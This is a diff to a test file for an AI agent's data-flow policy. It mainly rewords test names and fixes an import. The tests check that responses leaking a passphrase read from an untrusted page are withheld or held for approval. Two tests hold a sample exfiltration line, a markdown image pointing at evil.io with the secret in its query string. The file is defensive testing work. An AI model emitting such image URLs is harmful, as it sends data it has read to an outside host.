@@ -6,11 +6,11 @@ import { memoryStore } from '@provost/sessions'
 import { scriptedModel } from '@provost/testing'
 import { expect, test } from 'vitest'
 
-import { reader } from '../governed.ts'
+import { reader } from './governed.ts'
 
 const key = reader('read_page', 'The passphrase is tallow-lane-forty-one', { confidentiality: 'internal' })
 
-/** What a reader sees of an answer that follows a page of somebody else's. */
+/** Returns what a reader sees of a response that follows an untrusted page. */
 async function said(text: string, options: Partial<DataFlowPolicyOptions> = {}) {
   const agent = createAgent({
     name: 'a',
@@ -29,13 +29,13 @@ async function said(text: string, options: Partial<DataFlowPolicyOptions> = {}) 
   return { shown, result: await stream.result, rules: events.flatMap((event) => ('rule' in event ? [event.rule] : [])) }
 }
 
-test('an answer passes, and is shown once it was judged', async () => {
+test('a permitted response is shown after the policy has judged it', async () => {
   const { shown, result } = await said('The page holds a passphrase.')
   expect(shown).toBe('The page holds a passphrase.')
   expect(result.status).toBe('completed')
 })
 
-test('an image whose address carries what was read is withheld before anybody sees a word of it', async () => {
+test('a response whose image URL carries data is withheld before any of it is shown', async () => {
   const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
   const { shown, result, rules } = await said(text)
   expect(shown).not.toContain('evil')
@@ -43,14 +43,14 @@ test('an image whose address carries what was read is withheld before anybody se
   expect(rules).toEqual(['composed-address'])
 })
 
-test('with the classic rules an answer that copies is asked about, and not shown until somebody agrees', async () => {
+test('the classic rules ask about a response that copies untrusted text, and show it after approval only', async () => {
   const { shown, result } = await said('It says: The passphrase is tallow-lane-forty-one', { rules: presets.classic })
   expect(shown).toBe('')
   expect(result.status).toBe('suspended')
   expect(result.pending.approvals[0]?.reason).toContain('answer')
 })
 
-test('secret data is answered to those who may read it', async () => {
+test('a response with secret data is shown to its readers', async () => {
   const secret = reader('read_page', 'k', { integrity: 'trusted', confidentiality: 'secret', readers: ['ann'] })
   const run = (id: string) =>
     createAgent({
@@ -64,7 +64,7 @@ test('secret data is answered to those who may read it', async () => {
   expect((await run('bo')).status).toBe('suspended')
 })
 
-test('in shadow nothing is held back, and what would have been is in the audit', async () => {
+test('shadow mode withholds nothing and records the decisions in the audit', async () => {
   const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
   const { shown, rules } = await said(text, { mode: 'shadow' })
   expect(shown).toBe(text)
